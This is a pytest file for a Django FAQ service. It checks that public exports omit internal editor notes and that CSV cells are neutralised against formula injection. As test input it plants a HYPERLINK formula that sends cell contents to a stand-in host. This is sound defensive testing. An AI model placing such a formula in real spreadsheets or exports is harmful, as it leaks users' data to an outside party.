"""Point 2: what the public exports hold is an explicit list of public fields, and no cell
of a CSV the service writes runs as a spreadsheet formula."""

import csv
import io
import json

import pytest
from django.core.management import call_command

from segurfaq.faq.models import Entry
from segurfaq.faq.public import PUBLIC_ENTRY_FIELDS
from segurfaq.faq.services import entry_save

NOTE = "Note interne : attendre l'arbitrage du ministère avant de changer."
FORMULA = '=HYPERLINK("https://ailleurs.example/vol?d="&A1;"Cliquez")'


@pytest.fixture
def entry_with_secrets(small_corpus):
    entry = Entry.objects.get(slug="solde-du-financement")
    Entry.objects.filter(pk=entry.pk).update(
        editor_note=NOTE, review_by="2031-01-01", question=FORMULA, tags=["@SUM(1+1)"]
    )
    return entry


def _csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_the_public_csv_export_holds_no_editor_note_nor_review_date(client, entry_with_secrets):
    response = client.get("/api/v1/export/entries.csv")
    text = response.content.decode()

    assert response.status_code == 200
    assert NOTE not in text
    assert "editor_note" not in text and "review_by" not in text and "2031" not in text
    assert {"slug", "question", "url"} <= set(_csv_rows(text)[0])


def test_the_public_json_and_feeds_hold_no_editor_note(client, entry_with_secrets):
    for address in ("/api/v1/entries", "/api/v1/entries/solde-du-financement", "/flux.atom"):
        assert NOTE not in client.get(address).content.decode()


def test_no_cell_of_the_public_csv_runs_as_a_formula(client, entry_with_secrets):
    rows = _csv_rows(client.get("/api/v1/export/entries.csv").content.decode())
    solde = next(row for row in rows if row["slug"] == "solde-du-financement")

    assert solde["question"] == "'" + FORMULA
    assert solde["tags"] == "'@SUM(1+1)"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), value


def test_the_operators_csv_export_is_neutralised_and_still_imports_back_unchanged(
    entry_with_secrets, tmp_path
):
    listed = Entry.objects.get(slug="ins-au-dpi")
    listed.answer_source = "- une liste\n- en Markdown"
    entry_save(entry=listed, content_changed=True)
    path = tmp_path / "export.csv"
    call_command("export", "--format", "csv", "-o", str(path), stdout=io.StringIO())
    rows = _csv_rows(path.read_text(encoding="utf-8"))

    solde = next(row for row in rows if row["slug"] == "solde-du-financement")
    assert solde["question"] == "'" + FORMULA
    before = json.loads(_export_json())

    call_command("import", str(path), stdout=io.StringIO())

    assert json.loads(_export_json()) == before
    assert Entry.objects.get(slug="ins-au-dpi").answer_source == "- une liste\n- en Markdown"


def _export_json() -> str:
    out = io.StringIO()
    call_command("export", stdout=out)
    return out.getvalue()


def test_the_json_the_csv_and_the_documented_schema_hold_the_same_public_fields(
    client, small_corpus
):
    entry = client.get("/api/v1/entries").json()["results"][0]
    header = _csv_rows(client.get("/api/v1/export/entries.csv").content.decode())[0]
    documented = client.get("/api/v1/openapi.json").json()["components"]["schemas"]["EntryOut"]

    assert list(entry) == list(PUBLIC_ENTRY_FIELDS)
    assert list(header) == list(PUBLIC_ENTRY_FIELDS)
    assert set(documented["properties"]) == set(PUBLIC_ENTRY_FIELDS)
